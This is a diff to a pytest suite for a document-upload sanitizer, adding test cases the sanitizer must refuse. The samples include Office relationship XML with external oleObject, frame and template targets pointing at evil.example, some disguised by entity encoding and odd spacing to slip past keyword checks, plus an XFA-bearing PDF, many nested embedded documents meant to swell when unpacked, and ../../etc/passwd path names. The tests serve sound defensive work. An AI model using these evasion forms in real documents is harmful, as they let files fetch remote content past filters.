@@ -1,6 +1,7 @@
 """Files that members bring: the contents decide what they are, what may not be in them is refused, names in them go."""
 
 import time
+from contextlib import suppress
 from datetime import timedelta
 from io import BytesIO
 
@@ -123,6 +124,15 @@ def test_a_sheet_inside_a_document_is_cleaned_too():
     assert MARK.encode() not in b"".join(unzipped(unzipped(once.content)["ppt/embeddings/sheet1.xlsx"]).values())
 
 
+# What office programs read as a relationship that fetches, and a search for its usual words does not find.
+OTHER_WAYS_TO_FETCH = [
+    f'<Relationships><Relationship Type = "{RELATION}/oleObject" Target="https://evil.example" TargetMode = "External"/></Relationships>',
+    f'<Relationships><Relationship Type="{RELATION}/oleObject" Target="https://evil.example" TargetMode="&#69;xternal"/></Relationships>',
+    f'<p:a xmlns:p="x"><p:Relationship Type="{RELATION}/frame" Target="https://evil.example" TargetMode="External"/></p:a>',
+    relation("attachedTemplat&#101;", "https://evil.example"),
+]
+
+
 @pytest.mark.parametrize(
     "content",
     [
@@ -134,6 +144,8 @@ def test_a_sheet_inside_a_document_is_cleaned_too():
         office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"}),
         office("pptx", **{"ppt/embeddings/deep.docx": office(**{"word/vbaProject.bin": b"x"})}),
         office(**{"word/_rels/document.xml.rels": relation("oleObject", "https://evil.example/x")}),
+        *[office(**{"word/_rels/settings.xml.RELS": written}) for written in OTHER_WAYS_TO_FETCH],
+        *[office(**{"word/_rels/document.xml.rels": written}) for written in OTHER_WAYS_TO_FETCH],
         opendocument(**{"Basic/Standard/Module1.xml": "<x/>"}),
         opendocument(**{"Scripts/python/x.py": "import os"}),
         opendocument(**{"Object 1": OLE + b"x"}),
@@ -174,6 +186,7 @@ def hidden_script():
         (lambda: pdf(lambda writer: writer.add_attachment("x.exe", b"MZ")), errors.FileHoldsFiles),
         (lambda: pdf(lambda writer: writer.encrypt("geheim")), errors.FileLocked),
         (lambda: pdf(lambda writer: writer.encrypt("", "eigenaar")), errors.FileLocked),
+        (lambda: with_object("/AcroForm", named(XFA=TextStringObject("<xdp:xdp/>"))), errors.FileRuns),
         (lambda: b"%PDF-1.7\nniets", errors.FileBroken),
     ],
 )
@@ -250,6 +263,12 @@ def test_what_swells_when_unpacked_is_not_opened(parts):
     assert refusal_of(office(**parts)) is errors.FileTooLargeInside
 
 
+def test_many_small_documents_inside_have_the_room_of_one():
+    small = office(**{"word/media/a.bin": b"\0" * 9_000_000})
+
+    assert refusal_of(office(**{f"word/embeddings/{n}.docx": small for n in range(12)})) is errors.FileTooLargeInside
+
+
 @pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..\\x"])
 def test_an_archive_with_paths_that_leave_it_is_refused(name):
     assert refusal_of(office(**{name: b"x"})) is errors.FileBroken
@@ -260,7 +279,8 @@ def test_a_search_in_hostile_markup_is_quick():
     since = time.monotonic()
 
     for part in hostile:
-        prepared(office(**{"word/_rels/a.rels": part, "word/b.xml": part}))
+        with suppress(errors.FileBroken):
+            prepared(office(**{"word/_rels/a.rels": part, "word/b.xml": part}))
         prepared(opendocument(**{"settings.xml": part}))
 
     assert time.monotonic() - since < 20
